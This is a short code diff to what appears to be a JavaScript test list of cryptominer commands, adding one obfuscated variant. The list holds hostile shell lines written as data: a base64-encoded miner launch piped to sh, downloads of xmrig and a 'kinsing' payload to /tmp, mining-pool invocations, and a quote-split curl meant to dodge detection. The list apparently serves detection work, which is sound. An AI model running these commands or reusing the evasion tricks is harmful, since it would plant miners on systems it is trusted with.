@@ -19,6 +19,7 @@ const MINES = [
   `echo ${Buffer.from('./a -o stratum+tcp://h.example.com:1').toString('base64')} | base64 -d | sh`,
   'wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz',
   'curl -sL https://example.com/kinsing -o /tmp/k',
+  'sh -c id; c"u"rl -sL https://example.com/kins\'in\'g -o /tmp/k',
   'sh -c ls|./a -o stratum+tcp://pool.example.com:3333',
   '/tmp/ps -o stratum+tcp://pool.example.com:3333 -u x',
   'ps -o stratum+tcp://pool.example.com:3333 -u x',
